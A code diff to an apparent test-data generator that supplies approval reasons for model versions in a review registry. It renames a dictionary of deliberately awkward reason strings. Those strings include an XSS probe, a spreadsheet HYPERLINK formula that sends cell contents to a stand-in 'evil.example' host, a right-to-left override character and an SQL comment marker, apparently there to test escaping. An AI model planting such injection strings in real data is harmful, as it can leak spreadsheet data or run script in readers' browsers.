@@ -18,7 +18,8 @@ _REASONS = {
 }
 """Approvals without a reason happen too."""
 
-AWKWARD_REASONS = {
+_GIVEN = {
+    "card-testing-models/1": "All tests passed, no finding open. MRM-412",
     "churn-subscribers-models/18": 'OK 👍 "fits <b>all</b> limits" & <script>alert(1)</script>',
     "demand-forecast-models/15": "Geprüft, größere Fehler nur an Feiertagen;\n第二回レビュー: 承認, siehe »MRM-77«",
     "price-elasticity-models/4": '=HYPERLINK("https://evil.example/?q="&A1, "open") \\ \'ok\'\u202e;--',
@@ -31,4 +32,4 @@ def reason(version: str, status: str) -> str:
     """Why a version was approved or rejected; empty: nobody wrote it down."""
     drawn = int(digest("reason", version, status, size=4), 16)
     choices = _REASONS[status]
-    return AWKWARD_REASONS.get(version) or choices[drawn % len(choices)].format(100 + drawn % 800)
+    return _GIVEN.get(version) or choices[drawn % len(choices)].format(100 + drawn % 800)
